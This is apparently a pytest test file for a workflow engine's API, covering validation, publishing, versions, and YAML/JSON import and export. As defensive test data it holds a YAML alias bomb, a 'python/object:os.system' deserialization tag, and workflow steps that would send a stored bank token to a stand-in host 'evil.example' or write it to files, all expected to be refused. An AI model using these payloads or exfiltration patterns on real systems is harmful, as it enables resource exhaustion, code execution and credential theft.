"""Validate, publish, versions, import and export over HTTP."""

from typing import Any

import pytest
import yaml
from rest_framework.test import APIClient

from executions.definition.limits import limits
from executions.models import Activity, Workflow, WorkflowVersion
from executions.publishing.from_code import publish_from_code
from tests.support.sharing import assign_perm

from .people import GREETING

pytestmark = pytest.mark.django_db

BROKEN = {
    "schema": "valkyr/1",
    "name": "broken",
    "tasks": [{"id": "a", "use": "no.such"}, {"id": "a", "use": "flow.noop"}],
    "edges": [{"from": "a", "to": "nowhere"}],
}

MISREAD = {
    "schema": "valkyr/1",
    "name": "misread",
    "tasks": [
        {"id": "fetch", "use": "http.request", "with": {"url": "https://a.example"}},
        {
            "id": "keep",
            "use": "flow.noop",
            "after": "fetch",
            "with": {"value": "{{ tasks.fetch.output.boddy }}"},
        },
    ],
}


def draft(author: APIClient, definition: dict[str, Any]) -> str:
    made = author.post("/v1/Workflow", {"name": "w", "definition": definition}, format="json")
    return f"/v1/Workflow/{made.json()['id']}"


def test_validating_reports_every_problem_with_its_path(author: APIClient) -> None:
    answer = author.post(f"{draft(author, BROKEN)}/validate")

    assert answer.status_code == 200
    assert answer.json()["valid"] is False
    assert len(answer.json()["problems"]) >= 3
    assert all(p["path"] and p["code"] and p["message"] for p in answer.json()["problems"])


@pytest.mark.parametrize("use", ["data.validate", "data.sort", "quality.assess"])
def test_a_module_that_computes_cannot_be_sent_to_a_queue_of_threads(
    author: APIClient, use: str
) -> None:
    document = {
        "schema": "valkyr/1",
        "name": "w",
        "tasks": [{"id": "a", "use": use, "queue": "io"}],
    }
    document["tasks"].append({"id": "b", "use": "flow.if", "queue": "io"})  # type: ignore[attr-defined]

    found = author.post(f"{draft(author, document)}/validate").json()["problems"]

    assert ("tasks[0].queue", "computes") in [(one["path"], one["code"]) for one in found]
    assert ("tasks[1].queue", "computes") not in [(one["path"], one["code"]) for one in found]


def test_a_module_that_computes_cannot_be_sent_to_threads_by_its_own_queue(
    author: APIClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    tasks = [{"id": "a", "use": "data.validate"}, {"id": "b", "use": "data.validate", "queue": "x"}]
    address = draft(author, {"schema": "valkyr/1", "name": "w", "tasks": tasks})
    monkeypatch.setenv("VALKYR_THREAD_QUEUES", "default")
    limits.cache_clear()
    try:
        found = author.post(f"{address}/validate").json()["problems"]
    finally:
        monkeypatch.undo()
        limits.cache_clear()

    assert [one["path"] for one in found if one["code"] == "computes"] == ["tasks[0].use"]


def test_validating_can_look_at_another_definition_than_the_draft(author: APIClient) -> None:
    answer = author.post(
        f"{draft(author, BROKEN)}/validate", {"definition": GREETING}, format="json"
    )

    found = answer.json()
    assert len(found.pop("checksum")) == 64
    assert found == {"valid": True, "problems": [], "warnings": []}


def test_a_path_that_no_output_has_is_a_warning_and_is_published(author: APIClient) -> None:
    address = draft(author, MISREAD)
    expected = {
        "path": "tasks[1].with.value",
        "code": "unknown_output",
        "message": (
            '"tasks.fetch.output" has no "boddy" by what http.request says of its output; did you '
            'mean "body"?'
        ),
    }

    validated = author.post(f"{address}/validate").json()
    published = author.post(f"{address}/publish")

    mark = validated.pop("checksum")
    assert validated == {"valid": True, "problems": [], "warnings": [expected]}
    assert published.status_code == 201
    assert published.json()["warnings"] == [expected]
    assert published.json()["checksum"] == mark


def test_a_draft_with_problems_is_not_published(author: APIClient) -> None:
    address = draft(author, BROKEN)

    answer = author.post(f"{address}/publish")

    assert answer.status_code == 422
    assert answer.json()["code"] == "invalid_definition"
    assert answer.json()["errors"] == author.post(f"{address}/validate").json()["problems"]
    assert WorkflowVersion.objects.count() == 0


def test_publishing_makes_a_version_that_the_workflow_names(author: APIClient) -> None:
    address = draft(author, GREETING)

    published = author.post(f"{address}/publish")

    assert published.status_code == 201
    assert set(published.json()) == {"version", "checksum", "warnings"}
    assert published.json()["version"] == 1
    assert author.get(address).json()["latestVersion"] == 1
    version = author.get(published["Location"]).json()
    assert version["source"] == GREETING
    assert version["definition"]["tasks"][0]["modules"][0]["retry"]["maxAttempts"] == 1
    assert Activity.objects.filter(action="workflow.publish").count() == 1


def test_publishing_again_without_a_change_is_a_conflict(author: APIClient) -> None:
    address = draft(author, GREETING)
    author.post(f"{address}/publish")
    moved = [{**GREETING["tasks"][0], "ui": {"x": 1, "y": 2}}]
    author.patch(address, {"definition": {**GREETING, "tasks": moved}}, format="json")

    answer = author.post(f"{address}/publish")

    assert answer.status_code == 409
    assert answer.json()["code"] == "unchanged"


def test_a_test_version_is_not_the_latest(author: APIClient) -> None:
    address = draft(author, GREETING)

    answer = author.post(f"{address}/publish", {"kind": "test"}, format="json")

    assert answer.status_code == 201
    assert author.get(address).json()["latestVersion"] is None
    listed = author.get(f"{address}/versions").json()
    assert [(row["version"], row["kind"]) for row in listed] == [(1, "test")]
    assert "definition" not in listed[0]


@pytest.mark.parametrize("number", ["2", "0", "99999999999999999999", "-1", "x"])
def test_a_version_that_is_not_there_is_not_found(
    author: APIClient, greeting: dict[str, Any], number: str
) -> None:
    answer = author.get(f"/v1/Workflow/{greeting['id']}/versions/{number}")

    assert answer.status_code == 404
    assert answer["Content-Type"] == "application/problem+json"


def test_an_export_can_be_imported_again(author: APIClient, greeting: dict[str, Any]) -> None:
    exported = author.get(f"/v1/Workflow/{greeting['id']}/export")
    assert exported["Content-Type"].startswith("application/yaml")
    assert yaml.safe_load(exported.content) == GREETING
    author.delete(f"/v1/Workflow/{greeting['id']}")

    imported = author.post("/v1/Workflow/import", exported.content, content_type="application/yaml")

    assert imported.status_code == 201, imported.content
    assert imported.json()["definition"] == GREETING
    assert imported.json()["name"] == "greeting"
    assert author.post(f"{imported['Location']}/publish").status_code == 201


def test_an_export_is_json_for_who_accepts_json(
    author: APIClient, greeting: dict[str, Any]
) -> None:
    exported = author.get(
        f"/v1/Workflow/{greeting['id']}/export", headers={"Accept": "application/json"}
    )

    assert exported["Content-Type"] == "application/json"
    assert exported.json() == GREETING


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)


@pytest.mark.parametrize(
    ("text", "kind", "status"),
    [
        ("name: [", "application/yaml", 422),
        (BOMB, "application/yaml", 422),
        ("- a list", "application/yaml", 422),
        ("", "application/yaml", 422),
        ("tasks: []", "application/yaml", 422),
        ("name: !!python/object:os.system {}", "application/yaml", 422),
        ('{"name": "a\\u0000b"}', "application/json", 422),
        ("{", "application/json", 422),
        ("name: x", "text/plain", 415),
        (b"name: \xff", "application/yaml", 400),
        ("[" * 5000, "application/json", 422),
        ("[" * 5000, "application/yaml", 422),
    ],
)
def test_a_text_that_is_no_definition_is_refused_whole(
    author: APIClient, text: Any, kind: str, status: int
) -> None:
    answer = author.post("/v1/Workflow/import", text, content_type=kind)

    assert answer.status_code == status, answer.content
    assert answer["Content-Type"] == "application/problem+json"
    assert Workflow.objects.count() == 0


def charging(url: str, **more: Any) -> dict[str, Any]:
    step = {"id": "pay", "use": "http.request", "with": {"url": url}, "credential": "bank"}
    return {"schema": "valkyr/1", "name": "charging", "tasks": [step | more]}


def keep(admin: APIClient, **more: Any) -> str:
    given = {"name": "bank", "type": "bearer", "fields": {"token": "canary-22"}} | more
    answer = admin.post("/v1/Credential", given, format="json")
    assert answer.status_code == 201, answer.content
    return f"/v1/Credential/{answer.json()['id']}"


HEADER = {"headers": {"x-key": "{{ secrets.bank.token }}"}}
NAMED = {"url": "https://api.example.com/", "saveTo": "{{ secrets.bank.token }}.txt"}
EVIL = {"url": "https://evil.example/", **HEADER}


@pytest.mark.parametrize(
    ("definition", "path"),
    [
        (charging("https://evil.example/{{ input.a }}"), "tasks[0].with.url"),
        (charging("https://api.example.com.evil.example/"), "tasks[0].with.url"),
        (charging("https://api.example.com:8443/"), "tasks[0].with.url"),
        (
            charging("", credential=None, **{"with": NAMED}),
            "tasks[0].with.saveTo",
        ),
        (
            charging("https://evil.example/", credential=None, **{"with": EVIL}),
            "tasks[0].with.url",
        ),
        (charging("", use="graphql.query", **{"with": {"url": "{{ input.u }}", "query": "{a}"}}),
         "tasks[0].credential"),
        (
            charging(
                "",
                use="file.write",
                credential=None,
                **{"with": {"path": "a", "content": "{{ secrets.bank.token }}"}},
            ),
            "tasks[0].with.content",
        ),
        (charging("https://api.example.com/", queue="remote", use="remote.step", credential=None,
                  **{"with": {"handler": "x", "key": "{{ secrets.bank.token }}"}}),
         "tasks[0].with.key"),
    ],
)  # fmt: skip
def test_a_step_outside_of_a_credentials_boundary_is_not_published(
    author: APIClient, admin: APIClient, definition: dict[str, Any], path: str
) -> None:
    hosts = ["api.example.com:443"]
    keep(admin, hosts=hosts, modules=["http.*", "file.*", "remote.*"])
    [step] = definition["tasks"]
    if step.get("credential", "") is None:
        del step["credential"]
    workflow = draft(author, definition)

    validated = author.post(f"{workflow}/validate").json()
    refused = author.post(f"{workflow}/publish")

    assert validated["valid"] is False
    assert (path, "credential_refused") in [(p["path"], p["code"]) for p in validated["problems"]]
    assert refused.status_code == 422
    assert refused.json()["errors"] == validated["problems"]


@pytest.mark.parametrize(
    "definition",
    [
        charging("https://api.example.com/{{ input.a }}"),
        charging("https://API.example.com"),
        charging("{{ input.url }}"),
        charging("https://{{ input.host }}/"),
        charging("", **{"with": {"url": "https://api.example.com/", **HEADER}}),
    ],
)
def test_a_step_that_fits_or_is_known_only_when_it_runs_is_published(
    author: APIClient, admin: APIClient, definition: dict[str, Any]
) -> None:
    keep(admin, hosts=["api.example.com"])

    answer = author.post(f"{draft(author, definition)}/publish")

    assert answer.status_code == 201, answer.content


def test_a_credential_of_other_workflows_is_refused(author: APIClient, admin: APIClient) -> None:
    mine = draft(author, charging("{{ input.url }}"))
    theirs = author.post("/v1/Workflow", {"name": "o", "definition": GREETING}, format="json")
    kept = keep(admin, hosts=["api.example.com"], workflows=[theirs.json()["id"]])

    refused = author.post(f"{mine}/publish")
    mine_too = [theirs.json()["id"], mine.rpartition("/")[2]]
    admin.patch(kept, {"workflows": mine_too}, format="json")
    allowed = author.post(f"{mine}/publish")

    assert refused.status_code == 422
    assert "is not for this workflow" in refused.json()["errors"][0]["message"]
    assert allowed.status_code == 201


def test_a_credential_that_does_not_exist_is_a_problem_until_it_does(
    author: APIClient, admin: APIClient
) -> None:
    workflow = draft(
        author,
        charging(
            "https://api.example.com/",
            **{
                "with": {
                    "url": "https://api.example.com/",
                    "headers": {"x": "{{ secrets.nobody }}"},
                }
            },
        ),
    )

    validated = author.post(f"{workflow}/validate").json()
    refused = author.post(f"{workflow}/publish")

    assert validated["valid"] is False
    assert [(p["path"], p["code"]) for p in validated["problems"]] == [
        ("tasks[0].credential", "unknown_credential"),
        ("tasks[0].with.headers.x", "unknown_credential"),
    ]
    assert validated["problems"][0]["message"] == (
        'step "pay" needs the credential "bank", which the workspace "default" does not have; '
        "create it there, or name another one"
    )
    assert refused.status_code == 422
    assert refused.json()["errors"] == validated["problems"]

    keep(admin, hosts=["api.example.com"])
    [left] = author.post(f"{workflow}/publish").json()["errors"]
    assert '"nobody"' in left["message"]


def test_what_only_looks_like_a_credential_is_no_problem(author: APIClient) -> None:
    step = {"id": "say", "use": "data.set", "with": {"values": {"a": "{{ vars.secrets }}"}}}
    definition = {"schema": "valkyr/1", "name": "says", "tasks": [step]}
    definition["variables"] = {"secrets": "nobody"}

    answer = author.post(f"{draft(author, definition)}/publish")

    assert answer.status_code == 201, answer.content


def test_a_workflow_from_code_says_where_it_is_and_refuses_every_change(author: APIClient) -> None:
    made = publish_from_code("fulfil", GREETING, origin="shop.flows:fulfil", line=42)
    address = f"/v1/Workflow/{made.workflow_id}"

    shown = author.get(address).json()
    changed = author.patch(address, {"definition": BROKEN}, format="json")
    replaced = author.put(address, {"name": "x", "definition": BROKEN}, format="json")
    published = author.post(f"{address}/publish")
    imported = author.post(
        "/v1/Workflow/import?slug=fulfil&onConflict=update",
        yaml.safe_dump(GREETING),
        content_type="application/yaml",
    )

    assert (shown["origin"], shown["originLine"]) == ("shop.flows:fulfil", 42)
    for answer in (changed, replaced, published, imported):
        assert (answer.status_code, answer.json()["code"]) == (409, "workflow_from_code")
        assert "shop.flows:fulfil, line 42" in answer.json()["detail"]
    assert author.patch(address, {"enabled": False}, format="json").status_code == 200


def test_a_workflow_from_code_is_taken_over_by_who_may_write_workflows(
    author: APIClient, client_of: Any, member: Any
) -> None:
    made = publish_from_code("fulfil", GREETING, origin="shop.flows:fulfil")
    address = f"/v1/Workflow/{made.workflow_id}/take-over"

    granted = member("USER")
    assign_perm("write_workflow", granted, Workflow.objects.get(pk=made.workflow_id))
    refused = client_of(granted).post(address, {}, format="json")
    copied = author.post(address, {"name": "By hand", "slug": "by-hand"}, format="json")
    again = author.post(f"{copied['Location']}/take-over", {}, format="json")
    unknown = author.post(address, {"nme": "x"}, format="json")

    assert refused.status_code == 403
    assert copied.status_code == 201
    copy = author.get(copied["Location"]).json()
    assert (copy["name"], copy["slug"], copy["origin"]) == ("By hand", "by-hand", "")
    assert copy["definition"] == GREETING | {"name": "By hand"}
    assert (again.status_code, again.json()["code"]) == (409, "workflow_not_from_code")
    assert unknown.status_code == 422


def test_an_earlier_version_is_published_again_and_the_draft_stays(author: APIClient) -> None:
    at = draft(author, GREETING)
    changed = GREETING | {"tasks": [*GREETING["tasks"], {"id": "more", "use": "flow.noop"}]}
    assert author.post(f"{at}/publish").json()["version"] == 1
    assert author.patch(at, {"definition": changed}, format="json").status_code == 200
    assert author.post(f"{at}/publish").json()["version"] == 2

    answer = author.post(f"{at}/publish", {"version": 1}, format="json")

    assert answer.status_code == 201
    assert answer.json()["version"] == 3
    found = author.get(at).json()
    assert (found["latestVersion"], found["definition"]) == (3, changed)
    assert author.get(f"{at}/versions/3").json()["source"] == GREETING
    row = Activity.objects.filter(action="workflow.publish").order_by("-id").first()
    assert row is not None
    assert (row.details["version"], row.details["again"]) == (3, 1)


@pytest.mark.parametrize(
    ("version", "status"), [(1, 409), (2, 404), (7, 404), (0, 422), ("1", 422)]
)
def test_a_version_is_published_again_only_if_it_was_published_and_differs(
    author: APIClient, version: Any, status: int
) -> None:
    at = draft(author, GREETING)
    author.post(f"{at}/publish")
    author.post(f"{at}/publish", {"kind": "test"}, format="json")

    assert author.post(f"{at}/publish", {"version": version}, format="json").status_code == status
